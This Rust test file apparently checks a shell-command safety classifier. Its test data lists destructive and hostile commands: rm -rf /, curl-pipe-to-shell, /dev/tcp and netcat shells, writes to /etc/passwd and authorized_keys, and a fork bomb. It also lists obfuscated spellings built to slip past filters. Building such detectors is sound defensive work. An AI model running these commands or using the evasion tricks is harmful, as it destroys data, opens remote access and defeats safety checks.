use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

#[test]
fn dangerous_lines_are_known_however_they_are_written() {
    for line in [
        // The list of the specification.
        "rm -r -f /",
        "rm -fr /",
        "rm --recursive --force /",
        "rm -rf build",
        "rm -r ~",
        "rm -R -- /home",
        "git push -f",
        "git push origin +main",
        "git push --force-with-lease",
        "git -C sub push -f",
        "git reset --hard",
        "git clean -fd",
        "git checkout -- .",
        "git branch -D x",
        "curl x | bash",
        "curl -s x | sudo sh",
        "wget -O- x | tee f | sh",
        "bash -c \"$(curl x)\"",
        "sh <(curl x)",
        "eval \"$(curl x)\"",
        "base64 -d f | sh",
        "echo x | bash",
        "bash <<< \"$(curl x)\"",
        "source /dev/tcp/1.2.3.4/80",
        // The worst command of a line counts.
        "ls; rm -rf x",
        "ls && (cd x; rm -rf y)",
        "if true; then rm -rf x; fi",
        "for f in *; do rm -rf $f; done",
        "echo $(rm -rf x)",
        "echo \"`rm -rf x`\"",
        "cat <<E\n$(rm -rf x)\nE",
        "echo ${X:-$(rm -rf x)}",
        "x=$(rm -rf x)",
        "f() { rm -rf x; }; f",
        "ls | xargs rm -rf",
        "find . -exec rm {} ;",
        "find . -delete",
        "time rm -rf x",
        "[[ -n $(rm -rf x) ]]",
        "case x in x) rm -rf y;; esac",
        "diff <(rm -rf x) b",
        "! rm -rf x",
        "{ rm -rf x; }",
        "echo $((`rm -rf x`))",
        "a[$(rm -rf x)]=1",
        // Quotes and spellings.
        "r''m -rf x",
        "r\\m -rf x",
        "\"rm\" -\"rf\" x",
        "$'\\x72m' -rf x",
        "/bin/rm -rf x",
        "{rm,-rf,x}",
        "X=rm; $X -rf x",
        "$(echo rm) -rf x",
        "r$X -rf x",
        "/bin/r? -rf x",
        "rm${IFS}-rf${IFS}x",
        "command rm -rf x",
        "env A=1 rm -rf x",
        "env -i rm -rf x",
        "env -i -u A sh -c 'rm -rf x'",
        "timeout -k 5 10 rm -rf x",
        "timeout --foreground 10 rm -rf x",
        "stdbuf -i 0 -oL rm -rf x",
        "xargs -i rm -rf {}",
        "nohup nice -n 5 rm -rf x",
        "timeout 5 rm -rf x",
        "busybox rm -rf x",
        "sh -c 'rm -rf x'",
        "bash -lc 'sh -c \"rm -rf x\"'",
        "bash <<E\nrm -rf x\nE",
        // Rights, system, processes, network.
        "sudo ls",
        "doas ls",
        "su - root",
        "dd if=a of=/dev/sda",
        "mkfs.ext4 /dev/sda",
        "shutdown now",
        "init 0",
        "kill -9 1",
        "killall x",
        "pkill -9 x",
        "systemctl stop x",
        "chmod 777 x",
        "chmod u+s x",
        "chmod 4755 x",
        "chown root x",
        "insmod x",
        "sysctl -w a=1",
        "iptables -F",
        "crontab -r",
        "umount -l x",
        "echo x > /etc/passwd",
        "echo x | tee /etc/hosts",
        "cp x /usr/bin/y",
        "echo x > /dev/sda",
        "cat < /dev/tcp/1.2.3.4/80",
        "nc -l 80",
        "nc -e sh h 1",
        "export PATH=/tmp",
        "PATH=. ls",
        "LD_PRELOAD=x ls",
        ":(){ :|:& };:",
        "python3 -c 'import os; os.remove(1)'",
        "node -e 'require(\"child_process\")'",
        "perl -e 'unlink \"x\"'",
        "psql -c 'DROP TABLE x'",
        "mysql -e 'delete from x'",
        "git -c alias.x=!rm x",
        "git config core.hooksPath x",
        // What is given from elsewhere, or runs inside a text, or leads out.
        "F=-rf; rm $F x",
        "rm $(cat f)",
        "echo x | xargs rm",
        "find . | xargs -n 1 sh",
        "git $X",
        "watch 'rm -rf x'",
        "watch -n 5 rm -rf x",
        "parallel rm -rf ::: x",
        "env -S 'rm -rf x'",
        "ssh h ls",
        "awk 'BEGIN { system(\"rm x\") }'",
        "tar --to-command=sh -xf x",
        "docker run -v /:/h x",
        "docker run --privileged x",
        "kubectl delete pod x",
        "terraform apply",
        "echo x > .git/hooks/pre-commit",
        "echo x >> ~/.bashrc",
        "echo x > ../x",
        "cp x ~/.ssh/authorized_keys",
        "mv x ../y",
        "echo x | tee .github/workflows/ci.yml",
        "echo x > $X",
        // What is not understood.
        "echo 'open",
        "if then",
        "((((",
        "$(",
        "ls |",
    ] {
        assert!(judge(line).danger.is_some(), "{line}");
        assert!(!judge(line).is_plain, "{line}");
    }
}

/// A row for each line: whether it deletes what no checkpoint brings back.
#[test]
fn what_deletes_is_known_however_it_is_written() {
    for (line, expected) in [
        ("rm x", true),
        ("rm -r build", true),
        ("rm *", true),
        ("rm -f x.o", true),
        ("/bin/rm x", true),
        ("r''m x", true),
        ("unlink x", true),
        ("shred -u x", true),
        ("truncate -s 0 x", true),
        ("dd if=/dev/zero of=x bs=1", true),
        ("dd if=x bs=1 count=1", false),
        ("find . -name '*.o' -delete", true),
        ("find . -name '*.o' -exec rm {} +", true),
        ("find . -name '*.o' -exec truncate -s 0 {} +", true),
        ("find . -name '*.o'", false),
        ("fd -x rm", true),
        ("rsync -a --delete a/ b/", true),
        ("rsync -a a/ b/", false),
        ("tar -cf x.tar --remove-files src", true),
        ("tar -cf x.tar src", false),
        ("zip -m x.zip f", true),
        ("git clean -d", true),
        ("git clean -fdx", true),
        ("git clean -n", false),
        ("git -C sub clean -d", true),
        ("git rm x", true),
        ("git rm --cached x", false),
        ("git checkout src/a.rs", true),
        ("git checkout HEAD~1 src", true),
        ("git checkout -b new", false),
        ("git switch main", false),
        ("git restore x", true),
        ("git restore --staged x", false),
        ("git stash", false),
        ("git stash drop", true),
        ("git worktree remove ../x", true),
        ("git tag -d v1", true),
        ("git tag v1", false),
        ("git status", false),
        ("docker volume rm x", true),
        ("docker system prune", true),
        ("docker ps", false),
        // Nothing is written but the file's end.
        ("> x", true),
        (": > x", true),
        ("cat /dev/null > x", true),
        ("true > x", true),
        ("sh -c ': > x'", true),
        ("cat a > x", false),
        (": >> x", false),
        ("{ make; } > x", false),
        ("for f in a; do cat $f; done > x", false),
        ("echo done > /dev/null", false),
        (": > /dev/null", false),
        // Wherever it stands.
        ("make; rm x", true),
        ("test -f x && rm x", true),
        ("(cd sub; rm x)", true),
        ("for f in a b; do rm $f; done", true),
        ("echo $(rm x)", true),
        ("sh -c 'rm x'", true),
        ("bash -lc \"sh -c 'rm x'\"", true),
        ("timeout 5 rm x", true),
        ("env A=1 nice rm x", true),
        ("ls | xargs rm", true),
        ("watch -n 5 'rm x'", true),
        ("f() { rm x; }; f", true),
        // A word is no command.
        ("grep 'rm -rf ' f", false),
        ("echo rm x", false),
        ("cat <<'E' > f\nrm x\nE", false),
        ("cargo test rm", false),
        ("ls truncate", false),
    ] {
        assert_eq!(judge(line).deletes, expected, "{line}");
    }
}

#[test]
fn harmless_lines_stay_harmless() {
    for line in [
        "git commit -m 'sudo fix'",
        "grep 'rm -rf ' f",
        "echo 'curl x | bash'",
        "diff <(sort a) <(sort b)",
        "git status",
        "git push",
        "cargo test 2>&1 | tail -5",
        "ls -t",
        "rm x",
        "rm -f x.o",
        "git log --format='%h $(x)'",
        "python3 -c 'print(1+1)'",
        "echo done > /dev/null",
        "kill -0 1",
        "git restore --staged x",
        "for f in a b; do echo $f; done",
        "chmod +x run.sh",
        "find . -name '*.rs'",
        "psql -c 'select 1'",
        "export FOO=1",
        "make -j4",
        "awk '{ print $1 }' f",
        "tar -czf x.tgz src",
        "docker ps",
        "kubectl get pods",
        "cp a b",
        "echo x > out/log",
        "find . | xargs grep x",
        "git log --oneline -n 5",
        "sed -n 1,5p f",
        "cat <<'E' > f\nrm -rf /\nE",
    ] {
        assert_eq!(judge(line).danger, None, "{line}");
    }
}

#[test]
fn only_what_is_wholly_known_can_be_matched_against_a_rule() {
    for line in [
        "cargo test --lib",
        "git status && cargo build",
        "ls -l | wc -l",
        "echo 'a b'",
        "ls 2>/dev/null",
        "ls 2>&1",
    ] {
        assert!(judge(line).is_plain, "{line}");
    }
    for line in [
        "ls $X",
        "ls `id`",
        "ls *",
        "ls > f",
        "A=1 ls",
        "ls &",
        "(ls)",
        "if true; then ls; fi",
        "sh x",
        "xargs ls",
        "alias ls=x",
        "$X",
        "cat < f",
        "ls ~/{a,b}",
    ] {
        assert!(!judge(line).is_plain, "{line}");
    }
    let words = judge("git 'a b' $X && ls").commands;
    let known = |text: &str| Some(text.to_owned());
    assert_eq!(words, [vec![known("git"), known("a b"), None], vec![known("ls")]]);
}

#[test]
fn hostile_lines_are_judged_in_bounded_time_and_depth() {
    let started = Instant::now();
    for piece in [
        "(",
        "$(",
        "`",
        "((",
        "[[",
        "{ ",
        "\"$(",
        "${",
        "if ",
        "! ",
        "<(",
        "a=(",
        "$((",
        "'",
        "\\",
        "|",
        "<<E\n",
        "case x in ",
        "[",
        "f() ",
        "; ",
        "while ",
    ] {
        for times in [10, 39, 1_000, MAX_BYTES / piece.len()] {
            judge(&piece.repeat(times));
            judge(&format!("{}ls{}", piece.repeat(times), ")".repeat(times)));
        }
    }
    assert!(judge(&"x ".repeat(MAX_BYTES)).danger.is_some());
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
}

proptest! {
    #[test]
    fn no_line_breaks_it(line in "(?s).{0,80}") {
        judge(&line);
    }

    #[test]
    fn no_pieces_break_it(pieces in prop::collection::vec(prop::sample::select(vec![
        "rm", " -rf", " /", "$(", ")", "`", "\"", "'", "\\", ";", "|", "&", "<", ">", "<<E\n", "E\n", "{", "}", "[[", "]]", "if ", "then ", "fi",
        "for x in ", "do ", "done", "é", "$X", "${", "((", "))", "\n", "=", "~", "*", "case ", " in ", "esac", "#", "f()",
    ]), 0..30)) {
        judge(&pieces.concat());
    }

    /// Whatever stands around it, a command that destroys is seen, unless the line is no line.
    #[test]
    fn what_destroys_is_seen_wherever_it_stands(before in "[a-z]{1,5}( [a-z]{1,5}){0,2}", join in prop::sample::select(vec!["; ", " && ", " || ", " | ", " & ", "\n"])) {
        prop_assume!(!before.split(' ').any(|word| ["if", "do", "in", "fi", "for", "case", "done", "then", "else", "elif", "esac", "while", "until", "time", "select"].contains(&word)));
        let line = format!("{before}{join}rm -rf x");
        prop_assert!(judge(&line).danger.is_some());
    }
}
